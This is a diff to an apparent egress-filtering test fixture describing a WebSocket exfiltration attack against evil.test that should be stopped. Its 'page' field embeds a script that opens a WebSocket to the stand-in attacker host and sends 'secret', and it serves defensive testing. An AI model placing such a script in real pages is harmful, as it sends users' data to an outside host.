@@ -10,7 +10,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["RFC 6455", "ATT&CK T1071.001"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/ws*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Chat</h1><script>const s = new WebSocket('ws://evil.test/ws'); s.onopen = () => "
     "s.send('secret')</script>",
 }
